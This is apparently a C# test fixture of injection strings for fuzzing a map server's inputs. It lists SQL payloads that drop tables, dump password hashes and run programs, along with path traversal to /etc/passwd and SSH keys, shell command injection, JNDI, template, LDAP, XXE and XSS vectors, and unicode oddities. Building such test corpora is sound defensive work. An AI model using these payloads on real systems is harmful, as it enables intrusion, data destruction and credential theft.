namespace GridMap.Server.Tests.Access;

/// <summary>Texts that do something where a server takes them for more than text.</summary>
internal static class Injections
{
    // What ends a text, and what is said then.
    private static readonly string[] Ends = ["", "'", "\"", "')", "'))", "\\'", "%27", "';", "\";", "1", "$1", "`", "＇", "ʼ", "%bf%27", "' ", "}}", "]]>"];

    private static readonly string[] Sql =
    [
        " OR 1=1--", " OR 'a'='a", " AND 1=0 UNION SELECT version()--", "; DROP TABLE issue--", "; DELETE FROM account--",
        "; UPDATE account SET is_administrator=true--", " UNION ALL SELECT name,password_hash FROM account--", "; SELECT pg_sleep(10)--",
        "||(SELECT secret_sha256::text FROM api_key LIMIT 1)||", "; COPY account TO PROGRAM 'id'--", "; CREATE ROLE x SUPERUSER--",
        " AND 1=CAST((SELECT current_user) AS int)--", "; SET ROLE postgres--", "; RESET ROLE--", "; COMMIT; DROP TABLE audit_entry--",
        "/**/OR/**/1=1", " OR EXISTS(SELECT 1 FROM pg_shadow)", " ORDER BY 100--", "::regclass", " LIKE '%'", "); SELECT lo_import('/etc/passwd')--",
        "; SELECT set_config('gridmap.area_grid_ids','*',false)--", "$$; DROP TABLE grid; $$", "\u0000'; DROP TABLE grid--",
    ];

    private static readonly string[] Alone =
    [
        // Filters of map servers: CQL and OGC.
        "strStartsWith(name,'x'')=1; SELECT 1') = true", "PropertyIsLike('*',strEndsWith(name,'''))", "jsonArrayContains(name,'$.k','x'')) OR 1=1--')",
        "INTERSECTS(geom,POINT(0 0))) OR (1=1", "exec(java.lang.Runtime.getRuntime(),'id')", "<fes:Filter><fes:PropertyIsEqualTo/></fes:Filter>",
        "FeatureId IN ('issue.1')", "INCLUDE", "EXCLUDE", "name = 'x' OR true", "DWITHIN(geom,POINT(1 1),1,meters)", "env('x')", "IN ('1') OR IN ('2')",
        // Paths.
        "../../../../etc/passwd", "..\\..\\windows\\win.ini", "..%2f..%2fetc%2fpasswd", "%2e%2e%2f%2e%2e%2f", "....//....//etc/passwd", "/etc/passwd", "file:///etc/passwd",
        "..;/", "..%00/", "..%c0%af..%c0%afetc", "%252e%252e%252f", "C:\\boot.ini", "//example.invalid/x", "~/.ssh/id_rsa", ".git/config", "....\\\\",
        // Ends of text, of lines, of patience.
        "\0", "a\0b", "%00", "x%00.png", "\u0001\u0002", "\r\nSet-Cookie: a=b", "%0d%0aLocation: http://example.invalid/", "x\r\n\r\n<html>", "\u2028", "\uFEFF", "\u202Etxt.exe",
        new('A', 5000), new('٩', 200), new('(', 500), new('[', 500), "%", "%%", "%s%s%s%n", "%x", "_", "\\", "\\\\", "\\_\\%", "$", "$(id)", "`id`", "| id", "; id", "&& id", "$IFS", "{7*7}",
        // Templates, expressions, other stores.
        "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "@(7*7)", "*{7*7}", "${jndi:ldap://example.invalid/a}", "{{constructor.constructor('alert(1)')()}}", "[[${7*7}]]",
        "*)(uid=*))(|(uid=*", "admin)(&)", "*)(objectClass=*", "' or '1'='1' or ''='", "x' or name()='username' or 'x'='y", "{\"$gt\":\"\"}", "[$ne]=1", "true, $where: '1 == 1'",
        "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>", "<?xml version=\"1.0\"?>", "=cmd|'/c calc'!A1", "@SUM(1)", "+1", "-1", "\t=1",
        // Markup.
        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "javascript:alert(1)", "'-alert(1)-'", "<iframe srcdoc='<script>alert(1)</script>'>",
        "<math><mtext></mtext><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(1) src=1>\">", "&#x3C;script&#x3E;", "\u003cscript\u003e", "＜script＞", "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        // Numbers that are none, and letters that are others.
        "NaN", "Infinity", "-Infinity", "1e400", "0x7fffffff", "2147483648", "-9223372036854775809", "1,2,3,4,5", "null", "undefined", "true", "[]", "{}", "ﷺﷺﷺ", "ﬀ", "İ", "ẞ", "K", "ＳＥＬＥＣＴ", "\U0001F4A9", "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A", "٣", "𝟙", "مرحبا", "\u200B", "a\u0301", "１２３",
    ];

    /// <summary>Every one, some 550.</summary>
    public static IReadOnlyList<string> All { get; } = [.. (from end in Ends from said in Sql select end + said).Concat(Alone).Distinct(StringComparer.Ordinal)];
}
